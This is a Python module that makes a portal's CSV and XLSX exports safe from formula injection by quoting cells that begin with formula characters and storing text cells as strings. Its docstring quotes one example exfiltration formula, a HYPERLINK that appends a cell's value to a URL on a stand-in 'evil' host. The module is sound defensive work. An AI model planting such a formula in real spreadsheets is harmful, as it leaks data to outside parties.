"""Cells that cannot become formulas: the one way the portal writes CSV and XLSX.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or a carriage return, whatever follows) as a formula, so a title
such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` would become a live link in the
open data or a list version opened in Excel. Every text cell therefore passes
``safe_cell``, which prefixes such a value with a single quote (the OWASP
CSV-injection rule), and XLSX cells are written through ``append_row`` /
``write_cell``, which also mark every text cell as a string (``data_type = "s"``)
so openpyxl can never store it as a formula. Numbers, dates and booleans stay
what they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """Return ``value``, with a text that could start a formula quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Return the row with every text cell passed through ``safe_cell``."""
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """A ``csv.writer`` whose rows pass ``safe_row`` first."""

    def __init__(self, target: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(target, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """Return the rows as UTF-8 CSV with a BOM (so Excel reads the Chinese)."""
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    return (BOM + buffer.getvalue()).encode("utf-8")


def _xlsx_text(value: Any) -> Any:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        # openpyxl refuses control characters XML cannot carry; drop them.
        return safe_cell(ILLEGAL_CHARACTERS_RE.sub("", value))
    return value


def set_value(cell: Any, value: Any) -> Any:
    """Write ``value`` into an openpyxl cell; text is a string, never a formula."""
    cell.value = _xlsx_text(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def write_cell(sheet: Any, row: int, column: int, value: Any) -> Any:
    """Write one cell of a normal worksheet (``sheet.cell`` with the guard)."""
    return set_value(sheet.cell(row=row, column=column), value)


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to a worksheet, write-only or not, with the guard."""
    from openpyxl.cell import WriteOnlyCell

    sheet.append([set_value(WriteOnlyCell(sheet), value) for value in values])
